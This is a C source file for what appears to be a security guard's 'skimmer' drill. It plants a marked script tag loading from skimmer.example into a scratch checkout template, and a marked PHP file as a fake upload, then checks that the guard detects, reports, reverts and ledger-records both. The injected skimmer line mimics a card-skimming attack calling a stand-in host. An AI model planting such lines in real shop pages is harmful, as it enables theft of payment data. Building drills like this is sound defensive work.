#include "drill/skimmer.h"

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>

#include "base/buffer.h"
#include "base/clock.h"
#include "base/digest.h"
#include "base/i18n.h"
#include "base/io.h"
#include "base/message.h"
#include "drill/guard.h"
#include "drill/scratch.h"
#include "event/finding.h"
#include "event/json.h"
#include "ledger/ledger.h"
#include "ledger/verify.h"

#define MARK         "hinomi drill: harmless"
#define SKIMMER_LINE "\n<script src=\"https://skimmer.example/collect.js\"></script><!-- " MARK " -->\n"
#define UPLOAD_TEXT  "<?php echo '" MARK "';\n"
#define ARM_WAIT_MS  300000 /* the baseline of a large copy */

/* One file that is planted, and what became of it. */
struct plant {
        struct drill_answer answer;
        struct buffer before; /* what stood there */
        bool stood;
        uint64_t start_ns;
        char uid[32];      /* of its finding */
        uint64_t sequence; /* of its entry in the ledger */
        bool has_sequence;
};

struct rehearsal {
        const struct drill_options *options;
        drill_report report;
        void *userdata;
        struct drill_result *result;
        struct scratch scratch;
        struct guard guard;
        struct plant plants[2];
        int watch_fd;
        unsigned wait_ms;
};

const char *drill_question_name(enum drill_question question) {
        static const char *const names[DRILL_QUESTIONS] = {"seen", "shown", "undone", "proved"};
        return (unsigned)question < DRILL_QUESTIONS ? names[question] : "unknown";
}

static void stage(const struct rehearsal *rehearsal, const char *name) {
        if (rehearsal->report)
                rehearsal->report(name, NULL, rehearsal->userdata);
}

static int explain(struct rehearsal *rehearsal, int error, const char *what) {
        snprintf(rehearsal->result->detail, sizeof(rehearsal->result->detail), "%s: %s", what,
                 strerrordesc_np(-error) ?: "unknown error");
        return error;
}

static void hold_true(struct plant *plant, enum drill_question question) {
        if (plant->answer.held[question])
                return;
        plant->answer.held[question] = true;
        plant->answer.after_ns[question] = clock_monotonic_ns(&clock_system) - plant->start_ns;
}

static int plant_init(struct plant *plant, const char *name, const char *path) {
        plant->answer.plant = name;
        plant->answer.path = path;
        buffer_init(&plant->before, 0);
        int r = io_read_file(AT_FDCWD, path, &plant->before);
        plant->stood = r == 0;
        return r == -ENOENT ? 0 : r;
}

static int plant_write(struct plant *plant, const char *text) {
        int flags = plant->stood ? O_WRONLY | O_APPEND : O_WRONLY | O_CREAT | O_EXCL;
        _cleanup_(fd_closep) int fd = open(plant->answer.path, flags | O_NOFOLLOW | O_CLOEXEC, 0644);
        if (fd < 0)
                return -errno;
        plant->start_ns = clock_monotonic_ns(&clock_system);
        return io_write_all(fd, text, strlen(text));
}

static bool is_undone(const struct plant *plant) {
        if (!plant->stood)
                return access(plant->answer.path, F_OK) < 0 && errno == ENOENT;
        _cleanup_(buffer_deinit) struct buffer now;
        buffer_init(&now, 0);
        return io_read_file(AT_FDCWD, plant->answer.path, &now) == 0 && now.size == plant->before.size &&
               !memcmp(now.data ?: "", plant->before.data ?: "", now.size);
}

/* What came is shown as a diff; a new file among data, which may hold personal data, by its hash. */
static bool is_shown(const struct plant *plant, const json_t *evidence) {
        const char *diff = json_get_string(json_object_get(evidence, "data"), "diff");
        if (diff)
                return strstr(diff, MARK) != NULL;
        const json_t *hash = json_array_get(json_object_get(json_object_get(evidence, "file"), "hashes"), 0);
        const char *value = json_get_string(hash, "value");
        char hex[DIGEST_HEX_SIZE];
        struct digest digest;
        if (plant->stood || !value || digest_bytes(UPLOAD_TEXT, strlen(UPLOAD_TEXT), &digest) < 0)
                return false;
        digest_format(&digest, hex);
        return !strcmp(value, hex);
}

/* A finding says what was done to this file, and that it was this process. */
static void look_at_evidence(struct plant *plant, const json_t *finding, const json_t *evidence) {
        json_auto_t *path = json_bytes(plant->answer.path);
        if (!json_equal(path, json_object_get(json_object_get(evidence, "file"), "path")))
                return;
        hold_true(plant, DRILL_SEEN);
        const json_t *process = json_object_get(json_object_get(evidence, "actor"), "process");
        if (is_shown(plant, evidence) && json_get_integer(process, "pid", 0) == getpid())
                hold_true(plant, DRILL_SHOWN);

        const char *uid = json_get_string(json_object_get(finding, "finding_info"), "uid");
        const json_t *sequence = json_object_get(json_object_get(finding, "metadata"), "sequence");
        if (uid && json_is_integer(sequence) && !plant->has_sequence) {
                snprintf(plant->uid, sizeof(plant->uid), "%s", uid);
                plant->sequence = (uint64_t)json_integer_value(sequence);
                plant->has_sequence = true;
                hold_true(plant,
                          DRILL_PROVED); /* served after it was durable; checked when the guard has ended */
        }
}

static int read_findings(struct rehearsal *rehearsal) {
        struct pollfd readable = {.fd = rehearsal->watch_fd, .events = POLLIN};
        if (poll(&readable, 1, 1) <= 0)
                return 0;
        _cleanup_(message_deinit) struct message message = MESSAGE_INIT;
        int r = message_receive(rehearsal->watch_fd, &message);
        if (r < 0)
                return r;
        json_t *finding = json_object_get(message.body, "data"), *evidence;
        size_t i;
        finding_expand(finding);
        json_array_foreach (json_object_get(finding, "evidences"), i, evidence)
                for (size_t p = 0; p < ARRAY_SIZE(rehearsal->plants); p++)
                        look_at_evidence(&rehearsal->plants[p], finding, evidence);
        return 0;
}

static bool is_answered(const struct plant *plant) {
        for (size_t q = 0; q < DRILL_QUESTIONS; q++)
                if (!plant->answer.held[q])
                        return false;
        return true;
}

static int follow(struct rehearsal *rehearsal) {
        uint64_t end_ns = clock_monotonic_ns(&clock_system) + rehearsal->wait_ms * NS_PER_MS;
        while (clock_monotonic_ns(&clock_system) < end_ns) {
                int r = read_findings(rehearsal);
                if (r < 0)
                        return explain(rehearsal, r, "the drill's guard hung up");
                if (drill_is_interrupted())
                        return -EINTR;
                bool answered = true;
                for (size_t p = 0; p < ARRAY_SIZE(rehearsal->plants); p++) {
                        if (is_undone(&rehearsal->plants[p]))
                                hold_true(&rehearsal->plants[p], DRILL_UNDONE);
                        answered &= is_answered(&rehearsal->plants[p]);
                }
                if (answered)
                        break;
        }
        /* Undone is what stays undone. */
        for (size_t p = 0; p < ARRAY_SIZE(rehearsal->plants); p++)
                if (!is_undone(&rehearsal->plants[p]))
                        rehearsal->plants[p].answer.held[DRILL_UNDONE] = false;
        return 0;
}

static int find_uid(_unused_ uint64_t index, const char *entry, size_t size, void *userdata) {
        struct plant *plant = userdata;
        return memmem(entry, size, plant->uid, strlen(plant->uid)) ? 1 : 0;
}

/* By the ledger's files alone, as a third party would. */
static void check_proof(struct rehearsal *rehearsal) {
        char state[PATH_MAX];
        guard_path(&rehearsal->guard, "state", state);
        struct ledger_report report = {0};
        bool sound = ledger_verify(&(struct ledger_verify_options){.path = state}, &report) == 0 &&
                     report.problem == LEDGER_SOUND;
        for (size_t p = 0; p < ARRAY_SIZE(rehearsal->plants); p++) {
                struct plant *plant = &rehearsal->plants[p];
                if (!sound || !plant->has_sequence ||
                    ledger_read(state, plant->sequence, plant->sequence + 1, find_uid, plant) != 1)
                        plant->answer.held[DRILL_PROVED] = false;
        }
}

static json_t *record_of(const struct rehearsal *rehearsal) {
        json_t *answers = json_array();
        for (size_t p = 0; p < ARRAY_SIZE(rehearsal->plants); p++) {
                const struct drill_answer *answer = &rehearsal->plants[p].answer;
                json_t *object = json_pack("{s:s}", "plant", answer->plant);
                for (size_t q = 0; q < DRILL_QUESTIONS; q++)
                        json_object_set_new(object, drill_question_name(q),
                                            json_pack("{s:b,s:I}", "held", answer->held[q], "after_us",
                                                      (json_int_t)(answer->after_ns[q] / 1000)));
                json_array_append_new(answers, object);
        }
        return json_pack("{s:s,s:s,s:b,s:o}", "name", "skimmer", "of",
                         rehearsal->options->tree ? "copy" : "made-up shop", "passed",
                         rehearsal->result->all_held, "answers", answers);
}

/* Training evidence: in the ledger of the guard that watches this machine, when there is one. */
static void record(struct rehearsal *rehearsal) {
        _cleanup_(fd_closep) int fd =
                rehearsal->options->socket ? guard_connect(rehearsal->options->socket) : -EBADF;
        json_auto_t *report = record_of(rehearsal);
        char *text = fd >= 0 && report ? json_dumps(report, JSON_COMPACT) : NULL;
        json_t *request = text ? json_pack("{s:s,s:s}", "request", "drill-record", "report", text) : NULL;
        rehearsal->result->recorded = request && guard_ask(fd, request, 10000, NULL) == 0;
        free(text);
}

/* Listening before anything is planted: the answer to `status` comes after `watch` was taken up. */
static int listen_to_guard(struct rehearsal *rehearsal) {
        char path[PATH_MAX];
        guard_path(&rehearsal->guard, "control.sock", path);
        rehearsal->watch_fd = guard_connect(path);
        _cleanup_(fd_closep) int other = guard_connect(path);
        if (rehearsal->watch_fd < 0 || other < 0)
                return rehearsal->watch_fd < 0 ? rehearsal->watch_fd : other;
        json_auto_t *watch = json_pack("{s:s}", "request", "watch");
        int r = message_send(rehearsal->watch_fd, watch, NULL, 0);
        if (r == 0)
                r = guard_ask(other, json_pack("{s:s}", "request", "status"), 10000, NULL);
        return r < 0 ? r : 0;
}

static int arm(struct rehearsal *rehearsal) {
        const struct drill_options *options = rehearsal->options;
        struct scratch *scratch = &rehearsal->scratch;
        stage(rehearsal, N_("making a scratch copy"));
        int r = scratch_make(scratch, options->scratch, options->tree, options->packs);
        if (r < 0)
                return explain(rehearsal, r, "the scratch copy could not be made");
        stage(rehearsal, N_("starting a guard of its own"));
        r = guard_start(&rehearsal->guard, options->binary, options->packs, scratch->path, scratch->tree,
                        scratch->profile);
        if (r == 0)
                r = guard_wait(&rehearsal->guard, ARM_WAIT_MS);
        if (r == -ECHILD)
                guard_last_words(&rehearsal->guard, rehearsal->result->detail,
                                 sizeof(rehearsal->result->detail));
        else if (r < 0)
                explain(rehearsal, r, "the drill's guard did not arm");
        if (r < 0)
                return r;
        r = listen_to_guard(rehearsal);
        return r < 0 ? explain(rehearsal, r, "the drill's guard does not answer") : 0;
}

static int rehearse(struct rehearsal *rehearsal) {
        struct plant *plants = rehearsal->plants;
        int r = arm(rehearsal);
        if (r < 0)
                return r;
        stage(rehearsal, N_("planting"));
        r = plant_init(&plants[0], N_("checkout template"), rehearsal->scratch.template_path);
        if (r == 0)
                r = plant_init(&plants[1], N_("upload"), rehearsal->scratch.upload_path);
        if (r == 0)
                r = plant_write(&plants[0], SKIMMER_LINE);
        if (r == 0)
                r = plant_write(&plants[1], UPLOAD_TEXT);
        if (r < 0)
                return explain(rehearsal, r, "nothing could be planted");
        r = follow(rehearsal);
        if (r < 0)
                return r;
        stage(rehearsal, N_("checking the proof"));
        guard_stop(&rehearsal->guard);
        check_proof(rehearsal);
        rehearsal->result->all_held = is_answered(&plants[0]) && is_answered(&plants[1]);
        for (size_t p = 0; rehearsal->report && p < ARRAY_SIZE(rehearsal->plants); p++)
                rehearsal->report("", &plants[p].answer, rehearsal->userdata);
        record(rehearsal);
        return 0;
}

int drill_skimmer(const struct drill_options *options, drill_report report, void *userdata,
                  struct drill_result *ret_result) {
        *ret_result = (struct drill_result){0};
        if (geteuid() != 0)
                return -EPERM;
        /* A Ctrl-C waits until everything is cleaned up, and has its effect then. */
        sigset_t block, before;
        sigemptyset(&block);
        sigaddset(&block, SIGINT);
        sigaddset(&block, SIGTERM);
        sigprocmask(SIG_BLOCK, &block, &before);

        struct rehearsal rehearsal = {.options = options,
                                      .report = report,
                                      .userdata = userdata,
                                      .result = ret_result,
                                      .watch_fd = -EBADF,
                                      .wait_ms = options->wait_ms ?: 10000};
        int r = rehearse(&rehearsal);
        fd_closep(&rehearsal.watch_fd);
        guard_stop(&rehearsal.guard);
        scratch_remove(&rehearsal.scratch);
        for (size_t p = 0; p < ARRAY_SIZE(rehearsal.plants); p++)
                buffer_deinit(&rehearsal.plants[p].before);
        sigprocmask(SIG_SETMASK, &before, NULL);
        return r;
}
